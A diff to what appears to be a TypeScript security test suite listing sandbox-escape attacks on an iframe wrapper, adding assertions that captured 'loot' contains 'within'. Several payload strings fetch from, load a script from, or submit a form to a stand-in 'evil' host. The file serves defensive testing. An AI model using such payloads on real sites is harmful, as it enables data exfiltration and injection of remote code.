@@ -156,13 +156,16 @@ export const ATTACKS: Attack[] = [
   },
   {
     name: "forges messages from within the wrapper’s window",
-    code: each("await within();"),
+    code: "await within();",
     inside: `const target = parent; ${FORGED}`,
-    check: otherLessonUntouched,
+    async check(watch, siege) {
+      expect(watch.loot).toContain("within");
+      await otherLessonUntouched(watch, siege);
+    },
   },
   {
     name: "takes the wrapper over and breaks out from there",
-    code: each("await within(); await pause(300);"),
+    code: "await within();",
     inside: each(
       "loot.push(await (await fetch(evil + 'fetched')).text());",
       "await fetch(evil + 'fetched', { mode: 'no-cors' });",
@@ -177,6 +180,9 @@ export const ATTACKS: Attack[] = [
       "const script = document.createElement('script'); script.src = evil + 'script.js'; document.body.append(script);",
       "document.forms.length; document.body.insertAdjacentHTML('beforeend', `<form action=\"${evil}form\" method=\"post\"></form>`); document.forms[0].submit();",
     ),
+    async check({ loot }) {
+      expect(loot).toContain("within");
+    },
   },
   {
     name: "carries things out by going elsewhere itself",
